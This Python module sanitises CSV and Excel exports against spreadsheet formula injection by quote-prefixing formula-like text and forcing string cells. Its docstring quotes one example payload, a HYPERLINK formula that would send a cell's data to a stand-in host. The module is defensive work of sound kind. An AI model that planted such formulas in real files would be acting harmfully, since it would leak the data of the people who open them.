"""Cells no spreadsheet evaluates: the one rule for every CSV and Excel file we write.

OWASP's CSV injection guidance: Excel, LibreOffice and Google Sheets read a text value that
begins with `=`, `+`, `-`, `@`, a tab or a carriage return as a formula (a territory named
`=HYPERLINK("http://x/?"&A1,"open")` would call out with a colleague's data). In CSV such a
value is written with a single quote in front, which spreadsheets show and never evaluate.
Plain numbers held as text (`-5`, `+1.5e3`) are left alone: a spreadsheet reads them as
the numbers they are, and numeric columns are never touched. Excel workbooks store strings
as string cells (`XLSX_OPTIONS`), which no spreadsheet evaluates, so there the text stays
exactly as typed (a workbook we export imports back as a plan with the same names); a
formula-like one also carries Excel's quote prefix (`quote_formula_like`), the mark Excel
itself sets for a cell typed as `'=...`, so editing the cell in Excel keeps it text.
"""

from __future__ import annotations

import re
from collections.abc import Iterable

import pandas as pd

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
PLAIN_NUMBER = re.compile(r"[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?")
XLSX_OPTIONS = {"strings_to_numbers": False, "strings_to_formulas": False,
                "strings_to_urls": False}
"""xlsxwriter workbook options: text is written as text, never as a formula or a link."""


def formula_like(value) -> bool:
    """Whether a spreadsheet would read `value` as a formula: text starting with one of
    `FORMULA_START` that is not a plain number."""
    return isinstance(value, str) and value.startswith(FORMULA_START) and \
        not PLAIN_NUMBER.fullmatch(value)


def safe_text(value):
    """The value as a CSV cell no spreadsheet evaluates (non-text values unchanged)."""
    return "'" + value if formula_like(value) else value


def text_positions(frame: pd.DataFrame) -> list[int]:
    """Positions of the columns that may hold text: all but numeric, boolean and
    date-time ones (object, string and categorical columns)."""
    types = pd.api.types
    return [j for j, dtype in enumerate(frame.dtypes)
            if not (types.is_numeric_dtype(dtype) or types.is_datetime64_any_dtype(dtype)
                    or types.is_timedelta64_dtype(dtype))]


def safe_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy for writing as CSV: text cells and column names through `safe_text`."""
    out = frame.copy()
    for j in text_positions(out):
        out.isetitem(j, out.iloc[:, j].astype(object).map(safe_text))
    out.columns = [safe_text(c) for c in out.columns]
    return out


def quote_formula_like(book, sheet, frame: pd.DataFrame, first_row: int = 1) -> int:
    """Rewrite the formula-like text cells of `frame`, written on the xlsxwriter `sheet`
    from row `first_row` and column 0, as strings with Excel's quote prefix. Returns how
    many."""
    quoted = book.add_format({"quote_prefix": True})
    count = 0
    for j in text_positions(frame):
        for i, value in enumerate(frame.iloc[:, j].tolist()):
            if formula_like(value):
                sheet.write_string(first_row + i, j, value, quoted)
                count += 1
    return count


def csv_text(frame: pd.DataFrame) -> str:
    """The frame as CSV text safe to open: cells through `safe_frame`, lines ended with
    CRLF (RFC 4180), so a value holding a carriage return or a line feed is quoted and
    stays in its row (with "\n" endings Python's csv leaves a lone "\r" unquoted)."""
    return safe_frame(frame).to_csv(index=False, lineterminator="\r\n")


def safe_rows(rows: Iterable[Iterable]) -> list[list]:
    """Rows of cells (for `csv.writer`) through `safe_text`."""
    return [[safe_text(v) for v in row] for row in rows]
